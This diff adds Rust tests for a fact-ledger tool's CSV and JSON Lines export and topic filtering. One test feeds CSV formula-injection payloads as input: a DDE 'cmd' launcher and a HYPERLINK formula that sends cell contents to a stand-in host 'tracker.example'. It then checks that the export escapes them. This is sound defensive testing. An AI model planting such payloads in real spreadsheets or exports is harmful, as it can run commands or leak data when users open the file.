@@ -347,3 +347,146 @@ pub fn hostile_ledger(env: &Env) -> &'static str {
     ]);
     PATH
 }
+
+#[test]
+fn export_writes_one_row_per_fact_in_csv_and_jsonl() {
+    let mut env = Env::new();
+    let path = changed_ledger(&mut env);
+    let jsonl = env
+        .ok(&["--ledger", path, "export", "--format", "jsonl"])
+        .stdout;
+    let rows: Vec<Value> = jsonl
+        .lines()
+        .map(|l| serde_json::from_str(l).expect("one JSON object per line"))
+        .collect();
+    // Every version of every fact: the bundled 55, a new version, a new fact.
+    assert_eq!(rows.len(), 57);
+    let by_id = |id: &str| rows.iter().find(|r| r["id"] == id).unwrap();
+    assert_eq!(by_id("embassy-reopening-study")["status"], "superseded");
+    assert_eq!(
+        by_id("embassy-reopening-study")["superseded_by"],
+        "embassy-reopening-study-v2"
+    );
+    assert_eq!(
+        by_id("embassy-reopening-ready-per-translation")["retract_reason"],
+        "mistranslated"
+    );
+    assert_eq!(by_id("test-new-fact")["status"], "live");
+
+    let csv = env.ok(&["--ledger", path, "export"]).stdout;
+    // An RFC 4180 reader reads it back: a header, then the same facts in the
+    // same order, every record of the same width, notes with their commas
+    // and quotes intact.
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let header: Vec<String> = reader
+        .headers()
+        .unwrap()
+        .iter()
+        .map(str::to_string)
+        .collect();
+    assert_eq!(header, ledger::report::export::COLUMNS);
+    let records: Vec<csv::StringRecord> = reader.records().map(|r| r.unwrap()).collect();
+    assert_eq!(records.len(), rows.len());
+    let col = |name: &str| header.iter().position(|h| h == name).unwrap();
+    for (rec, row) in records.iter().zip(&rows) {
+        assert_eq!(&rec[col("id")], row["id"].as_str().unwrap());
+        assert_eq!(&rec[col("status")], row["status"].as_str().unwrap());
+        assert_eq!(&rec[col("statement")], row["statement"].as_str().unwrap());
+        assert_eq!(
+            &rec[col("note")],
+            row["note"].as_str().unwrap_or_default(),
+            "{}",
+            row["id"]
+        );
+        let cites = row["citations"].as_array().unwrap();
+        assert_eq!(rec[col("sources")].lines().count(), cites.len());
+        assert_eq!(rec[col("locators")].split('\n').count(), cites.len());
+    }
+    assert!(csv.contains("\r\n"), "records end in CRLF (RFC 4180)");
+    let narrowed = env
+        .ok(&["--ledger", path, "export", "--topic", "embassy"])
+        .stdout;
+    insta::assert_snapshot!("export_csv_embassy", narrowed);
+}
+
+#[test]
+fn export_csv_cells_never_start_a_formula() {
+    let env = Env::new();
+    env.init();
+    env.ok(&[
+        "source",
+        "add",
+        "--id",
+        "s",
+        "--title",
+        "=cmd|' /C calc'!A0",
+        "--publisher",
+        "P",
+    ]);
+    env.ok(&[
+        "add",
+        "--id",
+        "f",
+        "--subject",
+        "CA-KP",
+        "--topic",
+        "embassy",
+        "--statement",
+        "=HYPERLINK(\"http://tracker.example/?\"&A1,\"click\")",
+        "--attributed-to",
+        "@someone",
+        "--note=-1+1\nsecond line, \"quoted\"",
+        "--source",
+        "s",
+        "--locator",
+        "p1",
+        "--quote",
+        "+quote",
+    ]);
+    let csv = env.ok(&["export"]).stdout;
+    let mut reader = csv::Reader::from_reader(csv.as_bytes());
+    let rec = reader.records().next().unwrap().unwrap();
+    let col = |name: &str| {
+        ledger::report::export::COLUMNS
+            .iter()
+            .position(|h| *h == name)
+            .unwrap()
+    };
+    assert_eq!(
+        &rec[col("statement")],
+        "'=HYPERLINK(\"http://tracker.example/?\"&A1,\"click\")"
+    );
+    assert_eq!(&rec[col("attributed_to")], "'@someone");
+    assert_eq!(&rec[col("note")], "'-1+1\nsecond line, \"quoted\"");
+    assert_eq!(&rec[col("quotes")], "'+quote");
+    // JSON Lines keeps the text exact.
+    let jsonl = env.ok(&["export", "--format", "jsonl"]).stdout;
+    let v: Value = serde_json::from_str(jsonl.lines().next().unwrap()).unwrap();
+    assert_eq!(
+        v["statement"],
+        "=HYPERLINK(\"http://tracker.example/?\"&A1,\"click\")"
+    );
+}
+
+#[test]
+fn log_topic_is_repeatable() {
+    let one = on_bundled(&["log", "--kind", "fact", "--topic", "embassy"]);
+    let two = on_bundled(&[
+        "log",
+        "--kind",
+        "fact",
+        "--topic",
+        "embassy",
+        "--topic",
+        "sanctions",
+    ]);
+    let sanctions = on_bundled(&["log", "--kind", "fact", "--topic", "sanctions"]);
+    assert!(one.lines().count() > 0 && sanctions.lines().count() > 0);
+    assert_eq!(
+        two.lines().count(),
+        one.lines().count() + sanctions.lines().count()
+    );
+    for l in two.lines() {
+        assert!(l.contains(" embassy]") || l.contains(" sanctions]"), "{l}");
+    }
+}
